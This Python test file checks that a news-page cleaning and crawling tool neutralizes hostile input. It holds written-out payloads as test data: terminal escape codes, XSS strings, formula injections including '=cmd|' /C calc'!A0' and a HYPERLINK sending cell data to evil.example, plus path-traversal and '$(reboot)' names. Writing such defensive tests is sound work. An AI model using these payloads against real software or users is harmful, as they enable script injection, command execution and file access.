"""Hostile pages as they are put out: text and nothing else, to a terminal, in HTML and Markdown, as CSV, as names."""

from __future__ import annotations

import csv
import importlib.util
import json
import re
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import quote, unquote_to_bytes

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from selectolax.lexbor import LexborHTMLParser

from cleaners import clean_html, outlets
from crawlers import compare, outlet_views, render
from crawlers.exporters import cell_of
from crawlers.fixtures import slug_of
from crawlers.safe import cell, link, markup, plain, readable
from tests.hostile.children import OUTLET, ROOT, run
from tests.hostile.server import PARAGRAPHS, says, serving

# As they stand in a page: as letters, as references, and as bytes that a browser would not show.
ESCAPES = "\x1b]0;عنوان\x07\x1b[2J\x9b31m&#27;[1m&#155;2J&#x1b;]8;;http://evil.example\x07"
OVERRIDES = "\u202eمقلوب\u202c\u2066\u2067\u2068\u2069&#8238;&#x202e;"
SCRIPT = "<script>alert(1)</script>&lt;script&gt;alert(2)&lt;/script&gt;&lt;img src=x onerror=alert(3)&gt;"
MARKDOWN = "[اضغط](javascript:alert(1)) ![](http://evil.example/x.png) `</code>` &lt;b&gt; | --- | # ="


def page(title: str = "", url: str = "https://news.example/1") -> bytes:
    wicked = f"{ESCAPES}{OVERRIDES}{SCRIPT}{MARKDOWN}"
    paragraphs = "".join(f"<p>{text} {wicked}</p>" for text in PARAGRAPHS)
    title = title or f"عنوان {wicked}"
    return (
        f'<!doctype html><html lang="ar"><head><meta charset="utf-8"><title>{title}</title>'
        f'<link rel="canonical" href="{url}"><meta name="author" content="كاتب {ESCAPES}{OVERRIDES}"></head><body>'
        f'<nav class="\x1b[31m{OVERRIDES}">القائمة {wicked}</nav><article><h1>{title}</h1>{paragraphs}</article>'
        f"<aside class='related'><a href='javascript:alert(1)'>اقرأ أيضا {wicked}</a></aside></body></html>"
    ).encode()


def is_text(shown: str) -> bool:
    """Whether nothing in what is shown drives a terminal or reorders the text around it."""
    return not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029\u202a-\u202e\u2066-\u2069]", shown)


# --- the terminal -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "options",
    [[], ["--format", "markdown"], ["--format", "json"], ["--explain"]],
    ids=["text", "markdown", "json", "explain"],
)
def test_nothing_that_is_cleaned_drives_a_terminal(tmp_path: Path, options: list[str]) -> None:
    (tmp_path / "page\x1b[31m.html").write_bytes(page())
    ran = run(["ghirbal", "clean", "page\x1b[31m.html", *options], tmp_path)
    assert ran.status == 0
    assert PARAGRAPHS[0] in ran.out
    assert is_text(ran.out)
    assert is_text(ran.err)


@pytest.mark.parametrize("form", ["text", "json"])
def test_nothing_that_is_compared_drives_a_terminal(form: str) -> None:
    compared = compare.compare(page(), None, outlet=None, charset="utf-8", now=None)
    shown = getattr(compare, form)(compared, "page\x1b[31m.html")
    assert "مجلس المدينة" in shown
    assert is_text(shown)


def test_no_message_drives_a_terminal(tmp_path: Path) -> None:
    with serving() as server:
        server.answers["odd"] = says(
            b"", "302 Found", Location="http://\x1b[31m\x9b2Jx.example\u202e/\x07".encode().decode("latin-1")
        )
        ran = run(["ghirbal", "clean", server.url("odd")], tmp_path)
        assert ran.status == 1
        assert len(ran.err.splitlines()) == 1
        assert is_text(ran.err)


def test_no_outlet_drives_a_terminal() -> None:
    outlet = replace(outlets.get("aawsat"), name=f"اسم {ESCAPES}{OVERRIDES}", name_en="<script>|`x`|</script>")
    for terminal in (False, True):
        # What Rich itself puts out for a terminal are colours.
        assert is_text(re.sub(r"\x1b\[[\d;]*m", "", outlet_views.table([outlet], terminal=terminal)))
    assert is_text(outlet_views.everything(outlet, datetime.now(UTC).date()))
    shown = MarkdownIt("commonmark", {"html": True}).enable("table").render(outlet_views.markdown([outlet]))
    assert is_text(shown)
    assert LexborHTMLParser(shown).css_first("script") is None
    assert len(LexborHTMLParser(shown).css("tbody td")) == 6


# --- HTML and Markdown ------------------------------------------------------------------------------------


def test_markdown_holds_no_markup_of_the_page() -> None:
    article = clean_html(page(), outlet=None)
    tree = LexborHTMLParser(MarkdownIt("commonmark", {"html": True}).render(render.markdown(article)))
    assert tree.css("script, img, b, table") == []
    assert [anchor.attributes["href"] for anchor in tree.css("a")] == ["https://news.example/1"]
    assert "javascript:alert(1)" in tree.text()


def test_the_picture_runs_no_script_of_its_page() -> None:
    spec = importlib.util.spec_from_file_location("before_after", ROOT / "docs" / "before_after.py")
    assert spec and spec.loader
    before_after = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(before_after)
    body = page().decode() + "<!--<script>"
    article = clean_html(body, "https://news.example/1")
    tree = LexborHTMLParser(before_after.sheet(body, article))
    (script,) = tree.css("script")
    assert tree.css("img, [onerror], [onload]") == []
    data = re.match(r"const data = (.*);\n", script.text())
    assert data and json.loads(data[1])["page"] == body
    assert 'frame.sandbox = "allow-same-origin";' in script.text()
    assert "alert(2)" in tree.css_first("div.title").text()
    assert not re.search("[\u202a-\u202e\u2066-\u2069]", tree.css_first(".paragraphs").text())


anything = st.text(
    st.one_of(st.sampled_from("<>&\"'/=`-!#;x \x1b\u202e"), st.characters(exclude_categories=())), max_size=60
)


@given(anything)
def test_markup_is_its_text(text: str) -> None:
    tree = LexborHTMLParser(f'<p title="{markup(text)}">{markup(text)}</p>')
    body = tree.body
    assert body is not None
    assert [node.tag for node in body.css("*") if node.tag != "body"] == ["p"]
    (paragraph,) = body.css("p")
    assert paragraph.text() == plain(text)
    assert list(paragraph.attributes) == ["title"]


# --- links ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\nscript:alert(1)", " javascript:alert(1)",
        "\x01javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:x", "file:///etc/passwd",
        "ftp://news.example/", "//news.example/", "/1", "news.example", "", "http:", "http:///1", "https:news.example",
        "http://[::1", "http://news.example:99999/", "http://news.example:x/", "https://news.example@evil.example/",
        "https://user:secret@news.example/", None,
    ],
)  # fmt: skip
def test_what_is_no_link(url: str | None) -> None:
    assert link(url) is None


@pytest.mark.parametrize(
    ("url", "followed"),
    [
        ("https://news.example/خبر?a=1&b=2#c", "https://news.example/خبر?a=1&b=2#c"),
        ("  https://news.example/1\n", "https://news.example/1"),
        ("ht\ntps://news.example/1", "https://news.example/1"),
        ('https://news.example/"onmouseover="alert(1)', "https://news.example/%22onmouseover=%22alert(1)"),
        ("https://news.example/<script>", "https://news.example/%3Cscript%3E"),
        ("https://news.example/\u202egnp.exe", "https://news.example/%E2%80%AEgnp.exe"),
        ("https://news.example/a b\x1b[31m", "https://news.example/a%20b%1B[31m"),
        ("https://news.example/%22", "https://news.example/%22"),
    ],
)
def test_what_a_link_becomes(url: str, followed: str) -> None:
    assert link(url) == followed
    assert link(followed) == followed


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://news.example/%D8%AE%D8%A8%D8%B1/1?a=%D8%A8%20%26", "https://news.example/خبر/1?a=ب%20%26"),
        ("https://news.example/%d8%ae%e2%80%ae%C2%85gpj", "https://news.example/خ%E2%80%AE%C2%85gpj"),
        ("https://news.example/%E2%80%8F%C2%A0%C2%AD", "https://news.example/%E2%80%8F%C2%A0%C2%AD"),
        ("https://news.example/%C7%CE%C8%C7%D1", "https://news.example/%C7%CE%C8%C7%D1"),  # windows-1256
        ("https://news.example/%1B[31m%0A%3Cb%3E", "https://news.example/%1B[31m%0A%3Cb%3E"),
    ],
)
def test_what_is_shown_of_an_address(url: str, shown: str) -> None:
    assert readable(url) == shown


@given(st.binary(max_size=40))
def test_an_address_that_is_shown_is_the_same_and_text(path: bytes) -> None:
    shown = readable("https://news.example/" + quote(path))
    assert unquote_to_bytes(shown) == b"https://news.example/" + path
    assert shown == plain(shown)


@given(anything)
def test_a_link_is_one_and_has_one_spelling(text: str) -> None:
    followed = link(f"https://news.example/{text}")
    assert followed is not None
    assert followed.startswith("https://news.example/")
    assert is_text(followed)
    assert not re.search(r"[\s<>\"'`\\]", followed)
    assert link(followed) == followed


# --- spreadsheets -----------------------------------------------------------------------------------------

FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u200f=1", "\ufeff=1", "＝1", "＋1", "－1", "＠x",
    '=HYPERLINK("http://evil.example/"&A1)', "=cmd|' /C calc'!A0", "\tx", "\rx",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(text: str) -> None:
    assert cell(text) == f"'{text}"
    assert cell_of([text, "x"]) == f"'{text}\nx"


@pytest.mark.parametrize("text", ["", "خبر", "«خبر» - اليوم", "2026-01-05", "1=1", "'=1", "https://news.example/?a=-1"])
def test_other_cells_are_as_they_are(text: str) -> None:
    assert cell(text) == text


def test_values_that_are_no_text() -> None:
    assert [cell_of(value) for value in (None, 200, -0.5, [], {})] == ["", "200", "-0.5", "", "{}"]
    assert cell_of([{"text": "=خبر"}]) == '[{"text": "=خبر"}]'


def rows(path: Path) -> Iterator[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        yield from csv.DictReader(file)


def test_a_crawl_as_csv_opens_as_text(tmp_path: Path) -> None:
    """Of hosts that are private, with leave, so that this says too that the option of the command is obeyed."""
    with serving() as server:
        (tmp_path / "hostile.toml").write_text(OUTLET.replace("PORT", str(server.port)), encoding="utf-8")
        titles = ["=1+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "-2+3 عنوان", "سوق; =1+1"]
        for n, title in enumerate(titles):
            server.answers[f"formula-{n}"] = says(page(title, url=f"=http://news.example/{n}"))
        server.lists(*(f"formula-{n}" for n in range(len(titles))))
        command = ["ghirbal", "crawl", "hostile", "--outlets", ".", "-o", "out.csv", "--limit", "4"]
        refused = run(command, tmp_path, public=[])
        assert "private-address" in refused.err
        assert not list(rows(tmp_path / "out.csv"))
        ran = run([*command, "--allow-private"], tmp_path, public=[])
        assert ran.status == 0, ran.err
        found = list(rows(tmp_path / "out.csv"))
        assert sorted(row["title"].lstrip("'") for row in found) == sorted(titles)
        for row in found:
            for value in row.values():
                assert not re.match(r"[=+@\t\r-]", value)
            assert row["paragraphs"].count("\n") == len(PARAGRAPHS) - 1
        assert (tmp_path / "out.csv").read_text(encoding="utf-8").count('"سوق; =1+1"') == 1


# --- names of files ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "url",
    [
        "https://news.example/../../etc/passwd", "https://news.example/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "https://news.example/..\\..\\windows", "https://news.example/%00", "https://news.example/.hidden-file",
        "https://news.example/-rf-everything", "https://news.example/~root", "https://news.example/" + "a" * 5000,
        "https://news.example/\u202egpj.exe", "https://news.example/$(reboot)", "https://news.example/",
    ],
)  # fmt: skip
def test_names_made_of_addresses_stay_in_their_folder(tmp_path: Path, url: str) -> None:
    name = slug_of(url)
    assert re.fullmatch(r"[a-z0-9]+(?:-[a-z0-9]+)*", name)
    assert len(name) <= 60
    assert (tmp_path / name).resolve().parent == tmp_path.resolve()


@given(st.text(st.one_of(st.sampled_from("./\\%2e-~:?&a1"), st.characters(exclude_categories=["Cs"])), max_size=80))
def test_every_address_has_a_name(text: str) -> None:
    assert re.fullmatch(r"[a-z0-9]+(?:-[a-z0-9]+)*", slug_of(f"https://news.example/{text}"))


@pytest.mark.parametrize("slug", ["../../evil", "/evil", "..", ".", "", "a/b", "a\\b", "A", "a\n", "-a", "a\0"])
def test_names_that_are_given_stay_in_their_folder(tmp_path: Path, slug: str) -> None:
    (tmp_path / "page.html").write_bytes(page())
    (tmp_path / "fixtures").mkdir()
    before = set(tmp_path.rglob("*"))
    if "\0" not in slug:  # which no command line can hold
        ran = run(
            ["ghirbal", "fixtures", "add", "page.html", "--url", "https://aawsat.com/node/5320313", "--slug", slug],
            tmp_path,
        )
        assert ran.status != 0
        assert len(ran.err.splitlines()) == 1
    assert set(tmp_path.rglob("*")) - before <= {tmp_path / "report.json"}
